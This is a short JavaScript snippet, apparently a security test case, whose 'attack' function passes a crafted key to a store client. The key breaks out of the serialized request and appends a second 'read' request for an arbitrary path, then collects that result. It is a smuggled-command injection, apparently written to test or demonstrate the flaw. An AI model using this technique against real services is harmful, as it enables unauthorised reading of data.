// A key closes the text of its question, and asks another one.
// after: read
// source: injection
async function attack({ path }) {
  const first = store.get(`k"]],[2,"read",["${path}`);
  const second = store.get('x');
  await first;
  return { text: await second };
}
